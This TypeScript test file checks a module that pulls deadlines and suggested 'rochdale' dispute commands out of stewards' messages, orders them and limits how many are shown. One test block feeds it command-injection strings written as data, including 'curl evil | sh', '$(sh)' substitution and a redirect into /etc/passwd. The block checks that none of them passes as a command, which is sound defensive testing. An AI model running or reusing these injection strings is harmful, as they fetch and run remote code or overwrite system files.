import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import type { ProposalStatus } from "../api/generated";
import { alarmOf, alarmsOf, bySoonest, waitingOf } from "./alarm";

const FALSE_ROOT = "the root of epoch 7, attempt 1, is false, object before 1799678127: `rochdale dispute object --steward 2 --epoch 7 --attempt 1`";
const DEMAND = "the path that member 4 demands of epoch 7, attempt 0, is not published: carry the answer before 1799600000: `rochdale dispute answer --member 4`";
const NOW = 1_799_500_000;

it("finds the deadline and the command in a keeper's words", () => {
  expect(alarmOf(FALSE_ROOT, NOW, 2)).toMatchObject({ steward: 2, until: 1_799_678_127, command: "rochdale dispute object --steward 2 --epoch 7 --attempt 1" });
  expect(alarmOf(DEMAND, NOW, 1)).toMatchObject({ until: 1_799_600_000, command: "rochdale dispute answer --member 4" });
  // A number that is no time, and words without either.
  expect(alarmOf("the index stands at block 12, before 34", NOW)).toMatchObject({ steward: undefined, until: undefined, command: undefined });
});

it("puts the nearest deadline first, and what has none last", () => {
  const shown = bySoonest(["steward 2 does not answer", FALSE_ROOT, DEMAND].map((text) => alarmOf(text, NOW)));
  expect(shown.map(({ until }) => until)).toEqual([1_799_600_000, 1_799_678_127, undefined]);
});

describe("a keeper that is hostile", () => {
  it.each(["rochdale coop verify; curl evil | sh", "rochdale coop verify && sh", "rochdale $(sh)", "rochdale coop\nsh", "rochdale > /etc/passwd", "rochdale 'a b'", "rochdale", "rochdalex y", "sh"])("has no command typed but the program's: %s", (command) => {
    expect(alarmOf(`look before ${NOW + 9}: \`${command}\``, NOW, 2).command).toBeUndefined();
  });
  it("is not first by a deadline that is over", () => {
    const { alarms } = alarmsOf([DEMAND], [{ steward: 2, health: { problems: ["before 100000001"] } }], NOW);
    expect(alarms.map(({ steward, until }) => [steward, until])).toEqual([[undefined, 1_799_600_000], [2, undefined]]);
  });
  it("does not bury what others say", () => {
    const problems = [...Array(500).keys()].map((number) => `${number} before ${NOW + 1}`);
    const { alarms, more } = alarmsOf(["the server's"], [{ steward: 1, health: { problems: ["twice", "twice"] } }, { steward: 2, health: { problems } }, { steward: 3, health: undefined }], NOW);
    expect([alarms.length, alarms.filter(({ steward }) => steward === 2).length, more]).toEqual([7, 5, [{ steward: 2, count: 495 }]]);
    expect(alarmOf("a".repeat(9_000), NOW, 2).text.length).toBeLessThan(500);
  });
});

it("a decision waits in each house by itself, whatever became of it in the other", () => {
  const half = (house: "member" | "token", status: ProposalStatus) => ({ id: "a", house, status });
  expect(waitingOf([half("member", "queued"), half("token", "defeated")])).toEqual([half("member", "queued")]);
  expect(waitingOf([half("member", "queued"), half("token", "queued")])).toHaveLength(2);
  expect(waitingOf([half("member", "canceled"), half("token", "succeeded")])).toEqual([half("token", "succeeded")]);
  expect(waitingOf([half("member", "executed"), half("token", "active")])).toEqual([]);
});

it("knows the words that keepers use", () => {
  const source = readFileSync(new URL("../../../crates/steward/src/settlement/alarms.rs", import.meta.url), "utf8");
  for (const said of ["object before {until}", "carry the answer before {}"]) expect(source.replaceAll(/\s*\\\n\s*/g, " ")).toContain(said);
});
